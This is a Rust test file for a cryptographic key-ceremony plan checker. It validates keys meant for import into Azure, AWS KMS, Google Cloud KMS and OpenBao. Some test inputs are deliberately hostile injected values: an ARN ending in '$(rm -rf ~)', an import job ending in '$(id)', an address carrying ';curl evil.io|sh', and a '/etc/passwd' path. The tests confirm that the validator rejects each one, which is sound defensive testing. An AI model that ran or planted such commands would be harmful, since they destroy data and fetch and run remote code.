//! The stand-alone keys' rules (the plan's `keys`), by calling the checker on a plan
//! with one key per target (`testplan::targets_value`).

use crate::ceremony::plan::KeyTarget;
use crate::ceremony::testplan::{self, target_keks, targets_value, BAO_ADDR, CEREMONY, VAULT_A};
use crate::hsm::OaepHash;
use crate::keyid::Mode;
use crate::wrap::WrapForm;
use serde_json::{json, Value};

type Edit = Box<dyn Fn(&mut Value)>;

/// The indices of the plan's keys, by target.
const AZURE: usize = 0;
const AWS: usize = 1;
const GCP: usize = 2;
const BAO: usize = 3;

fn remove(v: &mut Value, field: &str) {
    v.as_object_mut().expect("an object").remove(field);
}

/// Every stand-alone rule, broken alone: exactly one violation, of that rule, with the
/// words of its message.
#[test]
fn every_standalone_rule_is_checked() {
    let dir = tempfile::tempdir().unwrap();
    let abs_kek = dir.path().join("keks/gcp.pem").display().to_string();
    let abs_token = dir.path().join("keks/aws-token.bin").display().to_string();
    let t = target_keks();
    let (fp_gcp, fp_gcp2) = (t.gcp.1.clone(), t.gcp.1.clone());
    let fp_a = testplan::keks()[0].1.clone();
    let cases: Vec<(&str, &[&str], Edit)> = vec![
        // Names and sizes, as a policy key's.
        (
            "key-name",
            &["key \"Bad_Name\"", "not a key name"],
            Box::new(|p| p["keys"][AWS]["name"] = json!("Bad_Name")),
        ),
        (
            "key-name",
            &["transcript signer"],
            Box::new(|p| p["keys"][BAO]["name"] = json!(format!("{CEREMONY}-transcript-signer"))),
        ),
        (
            "unique-key-names",
            &["key \"archive-key\"", "another of the plan's keys"],
            Box::new(|p| p["keys"][GCP]["name"] = json!("archive-key")),
        ),
        (
            "key-size",
            &["key \"Payments-Root\"", "size 1000"],
            Box::new(|p| p["keys"][AWS]["size"] = json!(1000)),
        ),
        // Exactly the target's block.
        (
            "target-block",
            &["key \"Payments-Root\"", "needs its \"aws\" block"],
            Box::new(|p| remove(&mut p["keys"][AWS], "aws")),
        ),
        (
            "target-block",
            &["needs its \"gcp\" block"],
            Box::new(|p| remove(&mut p["keys"][GCP], "gcp")),
        ),
        (
            "target-block",
            &["needs its \"openbao\" block"],
            Box::new(|p| remove(&mut p["keys"][BAO], "openbao")),
        ),
        (
            "target-block",
            &["the \"gcp\" block is for gcp-kms keys", "target is aws-kms"],
            Box::new(|p| p["keys"][AWS]["gcp"] = p["keys"][GCP]["gcp"].clone()),
        ),
        (
            "target-block",
            &["key \"Archive-Key\"", "the \"openbao\" block is for openbao keys", "target is azure"],
            Box::new(|p| p["keys"][AZURE]["openbao"] = p["keys"][BAO]["openbao"].clone()),
        ),
        (
            "target-block",
            &["\"vault\" and \"kek_attestation\" are for azure keys", "target is openbao"],
            Box::new(|p| p["keys"][BAO]["vault"] = json!(VAULT_A)),
        ),
        (
            "target-block",
            &["are for azure keys", "target is gcp-kms"],
            Box::new(|p| p["keys"][GCP]["kek_attestation"] = json!("optional")),
        ),
        // Rolls.
        (
            "roll-target",
            &["key \"Payments-Root\"", "--origin EXTERNAL"],
            Box::new(|p| p["keys"][AWS]["roll"] = json!(true)),
        ),
        (
            "roll-target",
            &["key \"Signing\"", "leave \"roll\" out"],
            Box::new(|p| p["keys"][GCP]["roll"] = json!(true)),
        ),
        (
            "roll-label",
            &["longer than 127 characters"],
            Box::new(|p| {
                p["keys"][BAO]["name"] = json!(format!("K{}", "x".repeat(120)));
                p["keys"][BAO]["roll"] = json!(true);
            }),
        ),
        (
            "unique-key-names",
            &["the rolled key's token label \"app-key-contoso-test\"", "another of the plan's keys"],
            Box::new(|p| {
                p["keys"][BAO]["roll"] = json!(true);
                p["keys"][AWS]["name"] = json!("app-key-contoso-test");
            }),
        ),
        (
            // A rolled key's label (NAME-CEREMONY) is the transcript signer's
            // (CEREMONY-transcript-signer) in ceremony "signer".
            "key-name",
            &["key \"signer-transcript\"", "the rolled key's label \"signer-transcript-signer\"", "transcript signer"],
            Box::new(|p| {
                p["ceremony"] = json!("signer");
                p["keys"][BAO]["name"] = json!("signer-transcript");
                p["keys"][BAO]["roll"] = json!(true);
            }),
        ),
        // The wrapping key: its file, its form, its pin.
        (
            "kek-pin",
            &["key \"Payments-Root\"", "not the pinned", "aws-kms side"],
            Box::new(move |p| p["keys"][AWS]["kek_sha256"] = json!(fp_gcp.clone())),
        ),
        (
            "kek-pin",
            &["\"abc\" is not 64 hex digits"],
            Box::new(|p| p["keys"][GCP]["kek_sha256"] = json!("abc")),
        ),
        (
            "kek-file",
            &["key \"Payments-Root\"", "not RSA (algorithm EC)"],
            Box::new(|p| p["keys"][AWS]["kek"] = json!("keks/ec.b64")),
        ),
        (
            "kek-file",
            &["key \"app-key\"", "keks/missing.pem"],
            Box::new(|p| p["keys"][BAO]["kek"] = json!("keks/missing.pem")),
        ),
        (
            "kek-path",
            &["key \"Signing\"", "kek", "relative to the plan"],
            Box::new(move |p| p["keys"][GCP]["kek"] = json!(abs_kek.clone())),
        ),
        (
            "kek-path",
            &["kek \"keks/", "a.pem\" must be a path relative"],
            Box::new(|p| p["keys"][GCP]["kek"] = json!("keks/\na.pem")),
        ),
        (
            "kek-form",
            &["key \"Payments-Root\"", "keks/a.json is an Azure KEK", "not the aws-kms wrapping key"],
            Box::new(move |p| {
                p["keys"][AWS]["kek"] = json!("keks/a.json");
                p["keys"][AWS]["kek_sha256"] = json!(fp_a.clone());
            }),
        ),
        // AWS.
        (
            "aws-key-arn",
            &["key \"Payments-Root\"", "$(rm -rf ~)", "holds the character '$'"],
            Box::new(|p| {
                p["keys"][AWS]["aws"]["key_arn"] =
                    json!("arn:aws:kms:us-east-1:111122223333:key/$(rm -rf ~)")
            }),
        ),
        (
            "aws-key-arn",
            &["holds the character '\\n'"],
            Box::new(|p| {
                p["keys"][AWS]["aws"]["key_arn"] = json!(format!("{}\n", testplan::AWS_ARN))
            }),
        ),
        (
            "aws-key-arn",
            &["names an alias"],
            Box::new(|p| {
                p["keys"][AWS]["aws"]["key_arn"] =
                    json!("arn:aws:kms:us-east-1:111122223333:alias/payments")
            }),
        ),
        (
            "aws-key-arn",
            &["not kms"],
            Box::new(|p| {
                p["keys"][AWS]["aws"]["key_arn"] = json!(
                    "arn:aws:s3:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
                )
            }),
        ),
        (
            "aws-wrapping-algorithm",
            &["RSAES_OAEP_SHA_256 wraps symmetric keys only"],
            Box::new(|p| p["keys"][AWS]["aws"]["wrapping_algorithm"] = json!("RSAES_OAEP_SHA_256")),
        ),
        (
            "aws-wrapping-algorithm",
            &["\"RSA_AES_KEY_WRAP_SHA_512\" is unknown"],
            Box::new(|p| {
                p["keys"][AWS]["aws"]["wrapping_algorithm"] = json!("RSA_AES_KEY_WRAP_SHA_512")
            }),
        ),
        (
            "file-path",
            &["import_token", "relative to the plan"],
            Box::new(move |p| p["keys"][AWS]["aws"]["import_token"] = json!(abs_token.clone())),
        ),
        (
            "aws-import-token",
            &["key \"Payments-Root\"", "keks/missing-token.bin"],
            Box::new(|p| p["keys"][AWS]["aws"]["import_token"] = json!("keks/missing-token.bin")),
        ),
        (
            "aws-import-token",
            &["keks/empty-token.bin is empty", "ImportToken"],
            Box::new(|p| p["keys"][AWS]["aws"]["import_token"] = json!("keks/empty-token.bin")),
        ),
        // Google Cloud.
        (
            "gcp-crypto-key",
            &["key \"Signing\"", "project \"Contoso\""],
            Box::new(|p| {
                p["keys"][GCP]["gcp"]["crypto_key"] = json!(
                    "projects/Contoso/locations/us-east1/keyRings/ring1/cryptoKeys/signing"
                )
            }),
        ),
        (
            "gcp-import-job",
            &["names cryptoKeys, not importJobs"],
            Box::new(|p| p["keys"][GCP]["gcp"]["import_job"] = json!(testplan::GCP_KEY)),
        ),
        (
            "gcp-import-job",
            &["holds the character"],
            Box::new(|p| {
                p["keys"][GCP]["gcp"]["import_job"] = json!(
                    "projects/contoso-p1/locations/us-east1/keyRings/ring1/importJobs/$(id)"
                )
            }),
        ),
        (
            "gcp-key-ring",
            &["key \"Signing\"", "not in the key ring"],
            Box::new(|p| {
                p["keys"][GCP]["gcp"]["import_job"] = json!(
                    "projects/contoso-p1/locations/us-east1/keyRings/ring2/importJobs/job1"
                )
            }),
        ),
        (
            "gcp-key-ring",
            &["not in the key ring"],
            Box::new(|p| {
                p["keys"][GCP]["gcp"]["import_job"] = json!(
                    "projects/contoso-p1/locations/europe-west1/keyRings/ring1/importJobs/job1"
                )
            }),
        ),
        (
            "gcp-import-method",
            &["RSA_OAEP_3072_SHA256 wraps with RSA alone"],
            Box::new(|p| p["keys"][GCP]["gcp"]["import_method"] = json!("RSA_OAEP_3072_SHA256")),
        ),
        (
            "gcp-import-method",
            &["\"RSA_OAEP_2048_SHA256_AES_256\" is unknown"],
            Box::new(|p| {
                p["keys"][GCP]["gcp"]["import_method"] = json!("RSA_OAEP_2048_SHA256_AES_256")
            }),
        ),
        (
            "gcp-method-size",
            &["RSA_OAEP_4096_SHA256_AES_256 has an RSA-4096 wrapping key but keks/gcp.pem is RSA-3072"],
            Box::new(|p| {
                p["keys"][GCP]["gcp"]["import_method"] = json!("RSA_OAEP_4096_SHA256_AES_256")
            }),
        ),
        (
            "gcp-algorithm",
            &["EC_SIGN_P256_SHA256 is not an RSA algorithm"],
            Box::new(|p| p["keys"][GCP]["gcp"]["algorithm"] = json!("EC_SIGN_P256_SHA256")),
        ),
        (
            "gcp-algorithm",
            &["gcloud's spelling", "RSA_SIGN_PKCS1_3072_SHA256"],
            Box::new(|p| p["keys"][GCP]["gcp"]["algorithm"] = json!("rsa-sign-pkcs1-3072-sha256")),
        ),
        (
            "target-size",
            &["key \"Signing\"", "algorithm RSA_SIGN_PKCS1_3072_SHA256 is for RSA-3072 keys but the key's size is 2048"],
            Box::new(|p| p["keys"][GCP]["size"] = json!(2048)),
        ),
        (
            "target-size",
            &["algorithm RSA_DECRYPT_OAEP_4096_SHA256 is for RSA-4096 keys but the key's size is 3072"],
            Box::new(|p| p["keys"][GCP]["gcp"]["algorithm"] = json!("RSA_DECRYPT_OAEP_4096_SHA256")),
        ),
        (
            "file-path",
            &["attestation \"/etc/passwd\"", "relative to the plan"],
            Box::new(|p| p["keys"][GCP]["gcp"]["attestation"] = json!("/etc/passwd")),
        ),
        (
            "gcp-attestation",
            &["key \"Signing\"", "keks/missing-job.json"],
            Box::new(|p| p["keys"][GCP]["gcp"]["attestation"] = json!("keks/missing-job.json")),
        ),
        (
            "gcp-attestation",
            &["has no \"importMethod\""],
            // Not a description at all (the wrapping key's PEM).
            Box::new(|p| p["keys"][GCP]["gcp"]["attestation"] = json!("keks/a.json")),
        ),
        // OpenBao.
        (
            "openbao-wrapping-key",
            &["key \"app-key\"", "RSA-3072", "always RSA-4096"],
            Box::new(move |p| {
                p["keys"][BAO]["kek"] = json!("keks/gcp.pem");
                p["keys"][BAO]["kek_sha256"] = json!(fp_gcp2.clone());
            }),
        ),
        (
            "openbao-address",
            &["key \"app-key\"", "plain http", "use https"],
            Box::new(|p| p["keys"][BAO]["openbao"]["address"] = json!("http://bao.example.com:8200")),
        ),
        (
            "openbao-address",
            &["loopback", "allowed only in a rehearsal"],
            Box::new(|p| p["keys"][BAO]["openbao"]["address"] = json!("http://127.0.0.1:8200")),
        ),
        (
            "openbao-address",
            &["loopback", "allowed only in a rehearsal"],
            Box::new(|p| p["keys"][BAO]["openbao"]["address"] = json!("https://localhost:8200")),
        ),
        (
            "openbao-address",
            &["has a path"],
            Box::new(|p| {
                p["keys"][BAO]["openbao"]["address"] = json!("https://bao.example.com:8200/v1/transit")
            }),
        ),
        (
            "openbao-address",
            &["holds a user name or password"],
            Box::new(|p| {
                p["keys"][BAO]["openbao"]["address"] = json!("https://admin@bao.example.com:8200")
            }),
        ),
        (
            "openbao-address",
            &["a host name or address and a port number"],
            Box::new(|p| {
                p["keys"][BAO]["openbao"]["address"] = json!("https://bao.example.com;curl evil.io|sh")
            }),
        ),
        (
            "openbao-address",
            &["is not https://HOST[:PORT]"],
            Box::new(|p| p["keys"][BAO]["openbao"]["address"] = json!("ftp://bao.example.com")),
        ),
        (
            "openbao-address",
            &["a host name or address and a port number"],
            Box::new(|p| p["keys"][BAO]["openbao"]["address"] = json!("https://bao.example.com:0")),
        ),
        (
            "openbao-mount",
            &["key \"app-key\"", "\"sys/../transit\" is not a mount path"],
            Box::new(|p| p["keys"][BAO]["openbao"]["mount"] = json!("sys/../transit")),
        ),
        (
            "openbao-mount",
            &["not a mount path"],
            Box::new(|p| p["keys"][BAO]["openbao"]["mount"] = json!("transit/")),
        ),
        (
            "openbao-hash",
            &["SHA512 is one byok's wraps cannot make"],
            Box::new(|p| p["keys"][BAO]["openbao"]["hash_function"] = json!("SHA512")),
        ),
        (
            "openbao-hash",
            &["\"sha256\" is unknown"],
            Box::new(|p| p["keys"][BAO]["openbao"]["hash_function"] = json!("sha256")),
        ),
        (
            "openbao-type",
            &["\"aes256-gcm96\" is not an RSA type"],
            Box::new(|p| p["keys"][BAO]["openbao"]["type"] = json!("aes256-gcm96")),
        ),
        (
            "target-size",
            &["key \"app-key\"", "type rsa-4096 is for RSA-4096 keys but the key's size is 3072"],
            Box::new(|p| {
                p["keys"][BAO]["openbao"]["type"] = json!("rsa-4096");
                p["keys"][BAO]["size"] = json!(3072);
            }),
        ),
        // Azure, stand-alone.
        (
            "vault-url",
            &["key \"Archive-Key\"", "needs \"vault\""],
            Box::new(|p| remove(&mut p["keys"][AZURE], "vault")),
        ),
        (
            "vault-url",
            &["key \"Archive-Key\""],
            Box::new(|p| p["keys"][AZURE]["vault"] = json!("https://example.com")),
        ),
        (
            "kek-vault",
            &["not in the key's vault"],
            Box::new(|p| p["keys"][AZURE]["vault"] = json!(testplan::VAULT_B)),
        ),
        (
            "kek-vault",
            &["keks/aws.b64 has no kid"],
            Box::new(|p| {
                p["keys"][AZURE]["kek"] = json!("keks/aws.b64");
                p["keys"][AZURE]["kek_sha256"] = json!(target_keks().aws.1.clone());
            }),
        ),
        (
            "kek-attestation",
            &["key \"Archive-Key\""],
            Box::new(|p| p["keys"][AZURE]["kek_attestation"] = json!("required")),
        ),
    ];
    let n = cases.len();
    let mut wrong = Vec::new();
    for (rule, words, edit) in cases {
        let mut plan = targets_value();
        edit(&mut plan);
        let (report, checked) = testplan::check_targets(dir.path(), &plan, Mode::Ceremony);
        assert!(checked.is_none(), "{rule}: a broken plan is not checked");
        let v = &report.violations;
        if v.len() != 1 || v[0].rule != rule {
            wrong.push(format!("{rule} {words:?}: {v:?}"));
            continue;
        }
        let text = v[0].text();
        for w in words {
            if !text.contains(w) {
                wrong.push(format!("{rule}: {w:?} not in {text}"));
            }
        }
        // One line, whatever the plan author wrote.
        assert!(!text.contains(['\n', '\r']), "{rule}: {text:?}");
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(n > 60);
}

/// The plan with one key per target (and no `policies`) passes: each key with its
/// target, hash, output form and destination; AWS's 24-hour pair is warned about.
#[test]
fn a_plan_of_every_target_with_only_keys_passes() {
    let dir = tempfile::tempdir().unwrap();
    let plan = targets_value();
    assert!(plan.get("policies").is_none());
    let (report, checked) = testplan::check_targets(dir.path(), &plan, Mode::Ceremony);
    let checked = checked.unwrap_or_else(|| panic!("{:?}", report.violations));
    assert_eq!((report.policies, report.keys), (0, 4));
    let k = &checked.keys;
    assert_eq!(k.len(), 4);
    let names: Vec<&str> = k.iter().map(|k| k.label.as_str()).collect();
    assert_eq!(
        names,
        ["Archive-Key", "Payments-Root", "Signing", "app-key"]
    );
    assert!(k
        .iter()
        .all(|k| k.policy.is_empty() && k.service.is_empty()));
    assert!(matches!(k[0].target, KeyTarget::Azure));
    assert_eq!(k[0].vault, VAULT_A);
    assert_eq!(k[0].target.hash(), OaepHash::Sha1);
    assert!(matches!(k[0].target.form(), WrapForm::AzurePackage));
    assert_eq!(k[0].output_file(), "Archive-Key.byok");
    match &k[1].target {
        KeyTarget::Aws {
            key_arn,
            import_token,
            import_token_sha256,
            ..
        } => {
            assert_eq!(key_arn.to_string(), testplan::AWS_ARN);
            assert_eq!(import_token, "keks/aws-token.bin");
            assert_eq!(
                import_token_sha256,
                &crate::util::sha256_hex(testplan::AWS_TOKEN)
            );
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(k[1].target.hash(), OaepHash::Sha256);
    assert!(k[1].vault.is_empty());
    assert_eq!(k[1].output_file(), "Payments-Root.aws.bin");
    assert_eq!(k[1].side_files().len(), 1);
    assert_eq!(
        k[1].destination(),
        format!("AWS KMS key {}", testplan::AWS_ARN)
    );
    match &k[2].target {
        KeyTarget::Gcp {
            method,
            algorithm,
            attestation,
            ..
        } => {
            assert_eq!(method.name(), "RSA_OAEP_3072_SHA256_AES_256");
            assert_eq!(algorithm.bits(), 3072);
            assert!(attestation.is_none());
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(k[2].kek.bits(), 3072);
    assert_eq!(k[2].output_file(), "Signing.gcp.bin");
    match &k[3].target {
        KeyTarget::OpenBao { address, mount, .. } => {
            assert_eq!(address, BAO_ADDR);
            assert_eq!(mount, "transit");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(k[3].kek.bits(), 4096);
    assert_eq!(k[3].output_file(), "app-key.openbao.b64");
    let aws_warnings: Vec<&String> = report
        .warnings
        .iter()
        .filter(|w| w.contains("valid 24 hours"))
        .collect();
    assert_eq!(aws_warnings.len(), 1, "{:?}", report.warnings);
    assert!(aws_warnings[0].contains(&crate::util::sha256_hex(testplan::AWS_TOKEN)));
    // "azure" written out is the default.
    let mut plan = targets_value();
    plan["keys"][AZURE]["target"] = json!("azure");
    let (report, checked) = testplan::check_targets(dir.path(), &plan, Mode::Ceremony);
    assert!(checked.is_some(), "{:?}", report.violations);
}

/// The SHA-1 methods of every target pass too, and give SHA-1 wraps.
#[test]
fn sha1_methods_pass_with_sha1_wraps() {
    let dir = tempfile::tempdir().unwrap();
    let mut plan = targets_value();
    plan["keys"][AWS]["aws"]["wrapping_algorithm"] = json!("RSA_AES_KEY_WRAP_SHA_1");
    plan["keys"][GCP]["gcp"]["import_method"] = json!("RSA_OAEP_3072_SHA1_AES_256");
    plan["keys"][BAO]["openbao"]["hash_function"] = json!("SHA1");
    let (report, checked) = testplan::check_targets(dir.path(), &plan, Mode::Ceremony);
    let checked = checked.unwrap_or_else(|| panic!("{:?}", report.violations));
    assert!(checked
        .keys
        .iter()
        .all(|k| k.target.hash() == OaepHash::Sha1));
    assert!(matches!(
        checked.keys[BAO].target.form(),
        WrapForm::Base64(OaepHash::Sha1)
    ));
}

/// A dev server on loopback over plain http: only in a rehearsal.
#[test]
fn http_loopback_openbao_only_in_a_rehearsal() {
    let dir = tempfile::tempdir().unwrap();
    for addr in [
        "http://127.0.0.1:8200",
        "http://localhost:8200/",
        "http://[::1]:8200",
    ] {
        let mut plan = targets_value();
        plan["keys"][BAO]["openbao"]["address"] = json!(addr);
        let (report, _) = testplan::check_targets(dir.path(), &plan, Mode::Ceremony);
        assert_eq!(
            report.violations.len(),
            1,
            "{addr}: {:?}",
            report.violations
        );
        assert_eq!(report.violations[0].rule, "openbao-address");
        plan["rehearsal"] = json!(true);
        let (report, checked) = testplan::check_targets(dir.path(), &plan, Mode::Ceremony);
        let checked = checked.unwrap_or_else(|| panic!("{addr}: {:?}", report.violations));
        assert!(report.rehearsal);
        match &checked.keys[BAO].target {
            KeyTarget::OpenBao { address, .. } => {
                assert_eq!(address, addr.trim_end_matches('/'), "{addr}")
            }
            other => panic!("{other:?}"),
        }
        // The command's --rehearsal does the same.
        plan["rehearsal"] = json!(false);
        let (report, checked) = testplan::check_targets(dir.path(), &plan, Mode::Rehearsal);
        assert!(checked.is_some(), "{addr}: {:?}", report.violations);
    }
    // Off loopback, plain http is refused in a rehearsal too.
    let mut plan = targets_value();
    plan["rehearsal"] = json!(true);
    plan["keys"][BAO]["openbao"]["address"] = json!("http://10.0.0.5:8200");
    let (report, _) = testplan::check_targets(dir.path(), &plan, Mode::Rehearsal);
    assert_eq!(report.violations.len(), 1, "{:?}", report.violations);
    assert!(report.violations[0].message.contains("plain http"));
}

/// OpenBao (and Azure) keys may roll: the new key's token label carries the ceremony id.
#[test]
fn openbao_and_azure_keys_roll_under_a_new_label() {
    let dir = tempfile::tempdir().unwrap();
    let mut plan = targets_value();
    plan["keys"][BAO]["roll"] = json!(true);
    plan["keys"][AZURE]["roll"] = json!(true);
    let (report, checked) = testplan::check_targets(dir.path(), &plan, Mode::Ceremony);
    let checked = checked.unwrap_or_else(|| panic!("{:?}", report.violations));
    assert_eq!(checked.keys[BAO].label, "app-key-contoso-test");
    assert_eq!(
        checked.keys[BAO].output_file(),
        "app-key-contoso-test.openbao.b64"
    );
    assert_eq!(checked.keys[AZURE].label, "Archive-Key-contoso-test");
    assert_eq!(checked.keys[BAO].key.name, "app-key");
}

/// A Google job's description: one at protection level SOFTWARE carries no attestation
/// and passes, summarised; one at level HSM without an attestation is refused, as is
/// one of another key or another method.
#[test]
fn a_gcp_description_without_an_attestation() {
    let dir = tempfile::tempdir().unwrap();
    let t = target_keks();
    let describe = |level: &str, method: &str, pem: &str| {
        json!({"name": testplan::GCP_JOB, "importMethod": method, "protectionLevel": level,
               "state": "ACTIVE", "publicKey": {"pem": pem},
               "expireTime": crate::util::rfc3339(crate::util::unix_now() + 86_400)})
        .to_string()
    };
    // A description of another job, or of an expired one, is refused.
    let stale = |name: &str, expires: i64| {
        json!({"name": name, "importMethod": "RSA_OAEP_3072_SHA256_AES_256",
               "protectionLevel": "SOFTWARE", "state": "ACTIVE", "publicKey": {"pem": &t.gcp.0},
               "expireTime": crate::util::rfc3339(expires)})
        .to_string()
    };
    let mut plan = targets_value();
    plan["keys"][GCP]["gcp"]["attestation"] = json!("keks/gcp-job.json");
    let cases = [
        (
            describe("SOFTWARE", "RSA_OAEP_3072_SHA256_AES_256", &t.gcp.0),
            None,
        ),
        (
            describe("HSM", "RSA_OAEP_3072_SHA256_AES_256", &t.gcp.0),
            Some("carries no attestation"),
        ),
        (
            describe("SOFTWARE", "RSA_OAEP_3072_SHA1_AES_256", &t.gcp.0),
            Some("the plan says RSA_OAEP_3072_SHA256_AES_256"),
        ),
        (
            describe("SOFTWARE", "RSA_OAEP_3072_SHA256_AES_256", &t.bao.0),
            Some("is not the KEK the wrap uses"),
        ),
        (
            stale(
                "projects/contoso-p1/locations/us-east1/keyRings/ring1/importJobs/other",
                crate::util::unix_now() + 86_400,
            ),
            Some("not of the plan's import_job"),
        ),
        (
            stale(testplan::GCP_JOB, crate::util::unix_now() - 60),
            Some("the import job expired at"),
        ),
    ];
    for (json_text, refused) in cases {
        testplan::write_targets(dir.path(), &plan);
        std::fs::write(dir.path().join("keks/gcp-job.json"), &json_text).unwrap();
        let roots = crate::attestation::TrustRoots::marvell().unwrap();
        let (report, checked) =
            crate::ceremony::plan::check(&dir.path().join("plan.json"), &roots, Mode::Ceremony)
                .unwrap();
        match refused {
            None => {
                let checked = checked.unwrap_or_else(|| panic!("{:?}", report.violations));
                let KeyTarget::Gcp {
                    attestation: Some(a),
                    ..
                } = &checked.keys[GCP].target
                else {
                    panic!("{:?}", checked.keys[GCP].target)
                };
                assert_eq!(a.file, "keks/gcp-job.json");
                assert!(a
                    .summary
                    .contains("protection level SOFTWARE, without an attestation"));
                // The description is a side file: the transcript pins it.
                assert_eq!(checked.keys[GCP].side_files().len(), 1);
            }
            Some(words) => {
                assert_eq!(report.violations.len(), 1, "{:?}", report.violations);
                let v = &report.violations[0];
                assert_eq!(v.rule, "gcp-attestation");
                assert!(v.message.contains(words), "{words:?} not in {v:?}");
            }
        }
    }
}

/// A name used by a policy's key and a stand-alone key is refused (compared without
/// case); a plan with both, names apart, passes.
#[test]
fn policies_and_keys_share_one_namespace() {
    let dir = tempfile::tempdir().unwrap();
    let mut plan = testplan::value(2);
    plan["keys"] = targets_value()["keys"].clone();
    let (report, checked) = testplan::check_targets(dir.path(), &plan, Mode::Ceremony);
    let checked = checked.unwrap_or_else(|| panic!("{:?}", report.violations));
    assert_eq!(checked.keys.len(), 6);
    assert_eq!((report.policies, report.keys), (1, 6));
    plan["keys"][BAO]["name"] = json!("contoso-ex-a1-KEY001");
    let (report, _) = testplan::check_targets(dir.path(), &plan, Mode::Ceremony);
    assert_eq!(report.violations.len(), 1, "{:?}", report.violations);
    let v = &report.violations[0];
    assert_eq!(v.rule, "unique-key-names");
    assert!(
        v.text().contains("key \"contoso-ex-a1-KEY001\"")
            && v.text().contains("policy \"USA_mailboxes\""),
        "{v:?}"
    );
}

/// What is not a plan is one error line, not a violation and not a panic: an unknown
/// target, a field of no block.
#[test]
fn an_unknown_target_or_field_is_one_line_error() {
    let dir = tempfile::tempdir().unwrap();
    let roots = crate::attestation::TrustRoots::marvell().unwrap();
    let path = dir.path().join("plan.json");
    let edits: Vec<(&[&str], Edit)> = vec![
        (
            &["unknown variant `azure-kms`", "aws-kms"],
            Box::new(|p| p["keys"][AZURE]["target"] = json!("azure-kms")),
        ),
        (
            &["unknown variant `AWS-KMS`"],
            Box::new(|p| p["keys"][AWS]["target"] = json!("AWS-KMS")),
        ),
        (
            &["unknown field `key_id`"],
            Box::new(|p| p["keys"][AWS]["aws"]["key_id"] = json!("x")),
        ),
        (
            &["missing field `import_token`"],
            Box::new(|p| remove(&mut p["keys"][AWS]["aws"], "import_token")),
        ),
        (
            &["unknown field `hash`"],
            Box::new(|p| p["keys"][BAO]["openbao"]["hash"] = json!("SHA256")),
        ),
        (
            &["invalid type"],
            Box::new(|p| p["keys"][GCP]["size"] = json!("3072")),
        ),
    ];
    for (words, edit) in edits {
        let mut plan = targets_value();
        edit(&mut plan);
        testplan::write_targets(dir.path(), &plan);
        let e =
            crate::ceremony::plan::check(&path, &roots, Mode::Ceremony).expect_err("not a plan");
        let m = e.message();
        assert!(m.contains("is not a valid ceremony plan"), "{m}");
        for w in words {
            assert!(m.contains(w), "{w:?} not in {m}");
        }
        assert!(!m.contains('\n'), "{m:?}");
    }
}

/// Every broken rule of the stand-alone keys is reported at once.
#[test]
fn every_broken_standalone_rule_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let mut plan = targets_value();
    plan["keys"][AWS]["aws"]["wrapping_algorithm"] = json!("RSAES_OAEP_SHA_256");
    plan["keys"][GCP]["gcp"]["import_method"] = json!("RSA_OAEP_4096_SHA256_AES_256");
    plan["keys"][BAO]["openbao"]["hash_function"] = json!("SHA512");
    plan["keys"][BAO]["openbao"]["address"] = json!("http://bao.example.com");
    let (report, checked) = testplan::check_targets(dir.path(), &plan, Mode::Ceremony);
    assert!(checked.is_none());
    let rules: Vec<&str> = report.violations.iter().map(|v| v.rule).collect();
    assert_eq!(
        rules,
        [
            "aws-wrapping-algorithm",
            "gcp-method-size",
            "openbao-address",
            "openbao-hash"
        ]
    );
}

/// Two AWS keys cannot share a KMS key or an import token.
#[test]
fn one_aws_key_per_arn_and_per_import_token() {
    let dir = tempfile::tempdir().unwrap();
    let mut plan = targets_value();
    let aws = plan["keys"]
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["target"] == "aws-kms")
        .unwrap()
        .clone();
    let mut second = aws.clone();
    second["name"] = json!("Payments-Second");
    plan["keys"].as_array_mut().unwrap().push(second);
    testplan::write_targets(dir.path(), &plan);
    let (report, checked) = testplan::check_targets(dir.path(), &plan, Mode::Ceremony);
    assert!(checked.is_none());
    let rules: Vec<&str> = report.violations.iter().map(|v| v.rule).collect();
    assert_eq!(
        rules,
        ["aws-one-key-per-arn", "aws-one-key-per-arn"],
        "{:?}",
        report.violations
    );
    assert!(report.violations[0]
        .message
        .contains("imports one key material"));
    assert!(report.violations[1].message.contains("same import token"));
}
